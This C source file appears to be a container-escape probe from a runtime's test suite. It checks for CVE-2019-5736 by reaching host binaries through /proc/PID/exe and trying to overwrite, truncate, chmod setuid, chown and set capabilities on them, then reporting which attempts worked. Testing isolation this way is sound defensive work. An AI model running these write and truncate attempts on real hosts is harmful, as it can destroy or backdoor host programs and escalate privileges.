/* Tries to change program files that are not of this root file system through /proc/PID/exe:
 * CVE-2019-5736. Prints what it saw, and every way that worked. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

static unsigned long seen, unseen, tried, worked, errnos[256];

static void count(const char *what, long result) {
    tried++;
    if (result < 0) {
        errnos[errno & 255]++;
        return;
    }
    worked++;
    printf("WORKED %s\n", what);
}

static void attack(int held, int deep) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
    static const struct {
        const char *name;
        int flags;
    } ways[] = {{"O_WRONLY", O_WRONLY}, {"O_RDWR", O_RDWR}, {"O_TRUNC", O_WRONLY | O_TRUNC},
                {"O_APPEND", O_WRONLY | O_APPEND}};
    for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
        int fd = open(path, ways[i].flags | O_CLOEXEC);
        count(ways[i].name, fd);
        if (fd >= 0)
            close(fd);
    }
    if (!deep)
        return;
    count("chmod", chmod(path, 0777));
    count("fchmod", fchmodat(AT_FDCWD, path, 04777, 0));
    count("chown", chown(path, 0, 0));
    count("truncate", truncate(path, 0));
    count("setxattr", setxattr(path, "user.minidock", "x", 1, 0));
    count("setcap", setxattr(path, "security.capability", "\1\0\0\2\377\377\377\377\0\0\0\0\0\0\0\0\0\0\0\0", 20, 0));
    count("utimes", utimensat(AT_FDCWD, path, NULL, 0));
}

/* Whether this file is a program of the root file system, whose own files are nobody's loss. */
static int foreign(int fd, dev_t root) {
    struct stat found;
    return fstat(fd, &found) == 0 && found.st_dev != root;
}

/* Looks at every process once; one that is caught is attacked TIMES through the descriptor, which
 * outlives it. */
static int look(dev_t root, long times) {
    int caught = 0;
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; proc && (entry = readdir(proc));) {
        char path[300];
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
            continue;
        snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
        int held = open(path, O_PATH | O_CLOEXEC);
        if (held < 0) {
            unseen++;
            continue;
        }
        if (foreign(held, root)) {
            seen++;
            caught = 1;
            for (long i = 0; i < times; i++)
                attack(held, i % 50 == 0);
        }
        close(held);
    }
    if (proc)
        closedir(proc);
    return caught;
}

/* rewrite TIMES SECONDS: until a foreign program was caught, or time is up. */
int rewrite(int argc, char **argv) {
    if (argc != 2)
        return 2;
    struct stat own;
    if (stat("/probe", &own))
        return 1;
    time_t end = time(NULL) + atoi(argv[1]);
    while (!look(own.st_dev, atol(argv[0])) && time(NULL) < end)
        continue;
    printf("seen=%lu\nunseen=%lu\ntried=%lu\nworked=%lu\n", seen, unseen, tried, worked);
    for (int i = 0; i < 256; i++)
        if (errnos[i])
            printf("errno=%s %lu\n", strerrorname_np(i), errnos[i]);
    return 0;
}
